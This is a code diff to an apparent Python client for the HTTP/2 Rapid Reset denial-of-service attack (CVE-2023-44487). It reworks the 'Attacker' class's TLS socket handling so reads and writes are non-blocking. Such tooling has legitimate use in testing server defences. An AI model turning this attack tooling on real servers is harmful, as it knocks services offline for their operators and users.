@@ -1,6 +1,7 @@
 """Streams that are opened and reset at once (CVE-2023-44487), by HTTP/2 frames made by hand."""
 
 import contextlib
+import select
 import socket
 import ssl
 import struct
@@ -37,29 +38,42 @@ class Attacker:
     def __init__(self, address, tls=None, acknowledges=True, reads=True):
         host, port = address.rsplit(":", 1)
         self.socket = socket.create_connection((host, int(port)))
+        # OpenSSL reads and writes one connection in one thread at a time, and so without waiting.
+        self.in_turns = threading.Lock() if tls else contextlib.nullcontext()
         if tls:
             self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
+            self.socket.setblocking(False)
         self.closed = threading.Event()
-        try:
-            acknowledgement = frame(SETTINGS, ACK, 0) if acknowledges else b""
-            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + acknowledgement)
-        except OSError:
-            self.closed.set()
+        acknowledgement = frame(SETTINGS, ACK, 0) if acknowledges else b""
+        self.send(PREFACE + frame(SETTINGS, 0, 0) + acknowledgement)
         if reads:
             threading.Thread(target=self._read, daemon=True).start()
 
+    def _at_once(self, call, *arguments):
+        """What it returns, once it need not wait any more."""
+        while True:
+            try:
+                with self.in_turns:
+                    return call(*arguments)
+            except ssl.SSLWantReadError:
+                select.select([self.socket], [], [], 0.1)
+            except ssl.SSLWantWriteError:
+                select.select([], [self.socket], [], 0.1)
+
     def _read(self):
         with contextlib.suppress(OSError, ValueError):
-            while self.socket.recv(1 << 16):
+            while self._at_once(self.socket.recv, 1 << 16):
                 pass
         self.closed.set()
 
     def send(self, data):
         """Whether all was taken."""
+        left = memoryview(data)
         try:
-            self.socket.sendall(data)
+            while left:
+                left = left[self._at_once(self.socket.send, left):]
             return True
-        except OSError:
+        except (OSError, ValueError):  # the latter of a socket that was closed here
             self.closed.set()
             return False
 
